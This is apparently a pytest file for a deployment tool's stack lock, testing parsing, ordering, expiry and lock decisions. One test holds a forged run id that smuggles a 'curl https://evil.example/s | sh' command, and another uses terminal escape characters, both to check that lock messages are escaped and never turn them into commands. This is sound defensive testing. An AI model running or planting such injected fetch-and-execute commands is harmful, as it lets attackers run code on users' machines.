"""The stack lock's pure rules: record parsing, the (created_at, id) order, expiry by server
time, lapse detection, and the decision a run takes after reading the records."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from metorial_apply.core.lock import (
    LOCK_KEY,
    LockHeldError,
    LockRecord,
    LockSettings,
    Verdict,
    decide,
    is_lock_record,
    lapsed,
    lock_metadata,
    printable,
    server_now,
)
from metorial_apply.core.model import Stamp

T0 = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def obj(id: str, run: str, created: float, updated: float | None = None, *, stack: str = "prod",
        ttl: float = 60) -> dict[str, Any]:
    return {"id": id, "object": "session.template", "name": f"metorial-apply lock: {stack}",
            "metadata": lock_metadata(stack, run, "ci-host", 42, ttl, 0),
            "created_at": iso(T0 + timedelta(seconds=created)),
            "updated_at": iso(T0 + timedelta(seconds=created if updated is None else updated))}


def rec(*args: Any, **kw: Any) -> LockRecord:
    record = LockRecord.from_api(obj(*args, **kw))
    assert record is not None
    return record


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def test_a_lock_record_is_recognised_by_its_key_and_is_never_a_stamp() -> None:
    lock = obj("set_1", "run-a", 0)
    assert is_lock_record(lock)
    assert Stamp.split(lock["metadata"])[1] is None  # no address: the live read can never adopt it
    assert not is_lock_record({"id": "set_2", "metadata": {"metorial-apply/stack": "prod"}})
    assert not is_lock_record({"id": "set_3", "metadata": None})
    assert not is_lock_record({"id": "set_4", "metadata": {LOCK_KEY: 7}})


def test_parsing_keeps_server_times_and_bounds_the_ttl() -> None:
    record = rec("set_1", "run-a", 0, 5, ttl=30)
    assert (record.stack, record.run, record.host, record.pid) == ("prod", "run-a", "ci-host", "42")
    assert record.created_at == at(0) and record.updated_at == at(5) and record.ttl_s == 30
    odd = obj("set_2", "run-b", 0)
    odd["metadata"]["metorial-apply/lock-ttl"] = "forever"
    assert LockRecord.from_api(odd).ttl_s == 120  # type: ignore[union-attr]
    odd["metadata"]["metorial-apply/lock-ttl"] = "0"
    assert LockRecord.from_api(odd).ttl_s == 1  # type: ignore[union-attr]


def test_metadata_written_by_anyone_prints_as_one_safe_line() -> None:
    hostile = obj("set_1", "run\x1b[2J", 0)
    hostile["metadata"]["metorial-apply/lock-host"] = "evil\nPlan: 0 to create\u202e\x07"
    record = LockRecord.from_api(hostile)
    assert record is not None
    text = record.describe()
    assert not any(c in text for c in "\x1b\n\u202e\x07")
    assert "evil?Plan: 0 to create??" in text
    assert len(printable("x" * 500)) == 80


def test_the_order_is_created_at_then_id() -> None:
    a, b, c = rec("set_b", "run-a", 0), rec("set_a", "run-b", 0), rec("set_0", "run-c", 1)
    assert sorted([c, a, b], key=LockRecord.order) == [b, a, c]


def test_expiry_is_judged_from_the_last_renewal_at_server_time() -> None:
    record = rec("set_1", "run-a", 0, 10, ttl=30)
    assert not record.expired(at(40))  # exactly the TTL: still alive
    assert record.expired(at(40.001))
    assert not record.expired(None)  # no server time known: never judged expired
    unreadable = LockRecord(id="set_2", stack="prod", run="run-b", ttl_s=1)
    assert not unreadable.expired(at(1000))  # unreadable times: held until unlocked by hand


def test_server_now_is_the_latest_time_the_server_returned() -> None:
    records = [rec("set_1", "run-a", 0, 30), rec("set_2", "run-b", 10)]
    assert server_now(records) == at(30)
    assert server_now(records, at(45), None) == at(45)
    assert server_now([]) is None


def test_the_oldest_unexpired_record_proceeds_and_the_rest_wait() -> None:
    mine, theirs = rec("set_2", "me", 1), rec("set_1", "them", 0)
    wait = decide([mine, theirs], "prod", "me", at(2))
    assert wait.verdict is Verdict.WAIT and wait.holder == theirs
    assert decide([mine, theirs], "prod", "them", at(2)).verdict is Verdict.PROCEED
    # Same created_at: the id breaks the tie, the same way for both runs.
    x, y = rec("set_x", "me", 0), rec("set_y", "them", 0)
    assert decide([x, y], "prod", "me", at(1)).verdict is Verdict.PROCEED
    assert decide([y, x], "prod", "them", at(1)).holder == x


def test_expired_records_are_passed_over_and_returned_for_clearing() -> None:
    dead, mine = rec("set_1", "killed", 0, 0, ttl=10), rec("set_2", "me", 30)
    decision = decide([dead, mine], "prod", "me", at(30))
    assert decision.verdict is Verdict.PROCEED and decision.expired == (dead,)
    assert decide([dead, mine], "prod", "me", at(9)).holder == dead  # not yet expired


def test_a_list_without_our_own_record_is_not_trusted() -> None:
    theirs = rec("set_1", "them", 0)
    assert decide([theirs], "prod", "me", at(1)).verdict is Verdict.REREAD
    assert decide([], "prod", "me", None).verdict is Verdict.REREAD


def test_other_stacks_locks_do_not_count() -> None:
    other, mine = rec("set_1", "them", 0, stack="staging"), rec("set_2", "me", 1)
    assert decide([other, mine], "prod", "me", at(1)).verdict is Verdict.PROCEED


def test_a_renewal_gap_longer_than_ttl_less_settle_means_the_lock_may_have_been_taken() -> None:
    assert not lapsed(at(0), at(29), 30, 1)
    assert lapsed(at(0), at(29.5), 30, 1)


def test_settings_keep_the_settle_delay_well_inside_the_ttl() -> None:
    settings = LockSettings(ttl_s=8, settle_s=2)
    assert settings.renew_every_s == 2 and settings.poll_s == 2
    with pytest.raises(ValueError, match="quarter"):
        LockSettings(ttl_s=4, settle_s=2)


def test_the_refusal_names_run_host_and_time_and_how_to_break_it() -> None:
    message = str(LockHeldError(rec("set_1", "run-a", 0, ttl=60), 0))
    assert "run run-a on host ci-host (pid 42) since 2026-01-01T12:00:00.000Z" in message
    assert "metorial-apply unlock --stack prod run-a" in message and "--lock-timeout" in message
    assert "after waiting 5 s" in str(LockHeldError(rec("set_1", "run-a", 0), 5))


def test_a_forged_run_id_is_never_pasted_into_a_command_and_the_message_stays_short() -> None:
    """Any key of the organization can write a lock record: its run id reaches the message only
    escaped and cut short, and never inside a suggested shell command."""
    forged = "x; curl https://evil.example/s | sh #" + "A" * 2_000_000
    message = str(LockHeldError(rec("set_1", forged, 0, ttl=60), 0))
    assert len(message) < 1000 and "unlock --stack" not in message and "archive its lock record set_1" in message
    quoted = str(LockHeldError(rec("set_1", "run.a-1_b", 0, ttl=60), 0))
    assert "`metorial-apply unlock --stack prod run.a-1_b`" in quoted


def test_a_managed_resource_that_gained_the_lock_key_stays_a_resource() -> None:
    """Any key of the organization can add `metorial-apply/lock` to a managed object: it must
    neither hide that object from the live read nor count as a holder of the lock."""
    from metorial_apply.api.live import live_state
    from metorial_apply.core.model import Catalog

    stamp = Stamp(stack="prod", address="session_template.bot", spec_hash="sha256:x").to_metadata()
    forged = {"id": "set_9", "object": "session.template", "name": "bot", "status": "active", "providers": [],
              "created_at": iso(T0), "updated_at": iso(T0), "metadata": stamp | {LOCK_KEY: "prod", "team": "a"}}
    assert not is_lock_record(forged) and LockRecord.from_api(forged) is None
    read = live_state("prod", Catalog(), {"session_template": [forged, obj("set_1", "run-a", 0)]})
    assert [(str(r.address), r.id) for r in read.state] == [("session_template.bot", "set_9")]
    assert read.objects == 1  # the real lock record is never counted, the forged one is a resource
